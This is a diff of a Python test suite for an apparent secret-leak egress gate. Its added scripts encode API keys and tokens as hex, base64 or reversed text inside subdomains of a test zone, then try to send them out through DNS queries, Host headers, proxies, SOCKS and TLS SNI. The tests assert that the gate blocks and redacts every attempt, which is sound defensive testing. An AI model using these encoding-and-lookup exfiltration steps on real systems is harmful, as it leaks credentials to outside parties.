@@ -35,6 +35,7 @@ allow:
     methods: [GET, POST]
   - host: fronted.test
     inspect: false
+  - host: "*.wild.test"
 secrets:
   - {env: API_KEY, hosts: [allowed.test], methods: [GET, POST], header: x-api-key}
 """
@@ -145,12 +146,27 @@ say("in a tunnel", sent(*own, "-x", PX, "https://four.test/"))
 say("HTTP/2", sent(*own, "--http2", "-H", f"x-other: {KEY}", f"https://{OK}/"))
 """,
     "names": """
-for name in (f"{KEY}.{TOK}.{ZONE}", f"{KEY.encode().hex()[:60]}.{TOK}.{ZONE}"):
-    say(name[:5], attempt(lambda: [entry[4][0] for entry in socket.getaddrinfo(name, 80)]), ask("203.0.113.53", name))
-    say(name[:5], sent("-H", f"host: {name}", f"http://{OK}/{TOK}"), sent(f"http://{name}/{TOK}"))
+def dotted(text):
+    return ".".join(text[at:at + 40] for at in range(0, len(text), 40))
+def connected(name):
+    with socket.create_connection((OK, 443), 4) as stream:
+        context = ssl._create_unverified_context()
+        with context.wrap_socket(stream, server_hostname=name) as secured:
+            return secured.version()
+for text in (KEY, REAL, OTHER):
+    coded = base64.urlsafe_b64encode(b"user:" + text.encode()).decode().rstrip("=")
+    for some in (text, text.lower(), text[::-1], text.encode().hex(), coded, coded.lower()):
+        name = f"{dotted(some)}.{TOK}.wild.test"
+        say("looked up", attempt(lambda: [entry[4][0] for entry in socket.getaddrinfo(name, 80)]),
+            ask("203.0.113.53", name), ask("203.0.113.53", name, 16, over_tcp=True))
+        say("Host", sent("-H", f"host: {name}", f"http://{OK}/{TOK}"))
+        say("proxy", sent("-x", PX, f"http://{name}/{TOK}"), curl("-x", PX, f"https://{name}/{TOK}")["code"])
+        say("socks", curl("--socks5-hostname", f"{PXH}:{PXP}", f"http://{name}/{TOK}")["code"])
+        say("SNI", attempt(connected, name))
 """,
 }
 SCRIPTS = {name: BEGIN + script for name, script in SCRIPTS.items()}
+NAMED = ("looked up", "Host", "proxy", "socks", "SNI")
 # What must go on: the use, and what no rule has the gate look into.
 USED = {
     "use": BEGIN + 'say(KEY, sent("-H", f"x-api-key: {KEY}", f"{URLS[0]}{TOK}"))\n',
@@ -229,16 +245,49 @@ def test_P27_each_is_an_alarm_on_record_without_the_text(ran: Ran) -> None:
     assert {flow["path"] for flow in paths} == {"/[redacted]"}
     assert r"the placeholder of API\_KEY" in (ran.run.packet / "summary.md").read_text()
     lines = (ran.run.packet / "evidence.jsonl").read_text().splitlines()
-    assert sum('"severity":"high"' in line for line in lines) == len(denied)
+    told = [flow for flow in ran.flows if flow["kind"] == "dns" and "secret" in str(flow)]
+    assert sum('"severity":"high"' in line for line in lines) == len(denied) + len(told)
+    texts = [ran["use"].said[0][0], VALUE, KEPT]
+    texts += [text.encode().hex() for text in texts]
     for path in ran.run.packet.iterdir():
-        text = path.read_text("latin-1")
-        assert VALUE not in text, path
-        assert KEPT not in text, path
+        shown = path.read_text("latin-1").lower().replace(".", "")
+        for text in texts:
+            assert text.lower() not in shown, path
+            assert text.lower()[::-1] not in shown, path
 
 
 def test_P27_no_question_with_it_left(ran: Ran, leaks: Ran) -> None:
     assert leaks.asked(leaks["names"].token)
     assert not ran.asked(ran["names"].token)
+
+
+def test_P27_a_name_with_it_is_an_alarm_wherever_it_is_said(ran: Ran) -> None:
+    said = {name: [one[1:] for one in ran["names"].said if one[0] == name] for name in NAMED}
+    assert {len(some) for some in said.values()} == {18}
+    assert {one[0].partition(" ")[0] for one in said["looked up"]} == {"gaierror"}
+    assert {str(one[1:]) for one in said["looked up"]} == {"[[5, 0], [5, 0]]"}
+    assert {str(one) for one in said["Host"]} == {"[['403', True]]"}
+    assert {str(one) for one in said["proxy"]} == {"[['403', True], 56]"}
+    assert {str(one) for one in said["socks"]} == {"[97]"}
+    assert {one[0].partition(" ")[0] for one in said["SNI"]} == {"SSLError"}
+    denied = [flow for flow in ran.denied(rule="secret") if " is in the name," in flow["reason"]]
+    assert {flow["via"] for flow in denied} == {"direct", "absolute-form", "connect", "socks"}
+    for claim in ("target", "sni", "host"):
+        assert [flow for flow in denied if flow.get(claim) == "redacted.invalid"], claim
+    whose = {flow["reason"].partition(" (")[0] for flow in denied}
+    assert whose == {
+        *("the placeholder of API_KEY", "the value of API_KEY", "the value of JOB_TOKEN")
+    }
+    groups = [
+        group
+        for flow in ran.flows
+        if flow["kind"] == "dns"
+        for group in flow["questions"]
+        if group["reason"] == "secret"
+    ]
+    assert {group["secret"].partition(" (")[0] for group in groups} == whose
+    assert {group["via"] for group in groups} == {"udp", "tcp"}
+    assert {group["name"] for group in groups} == {"(redacted)"}
 
 
 # HTTP/2 with real handshakes: the gate alone, both ends ours.
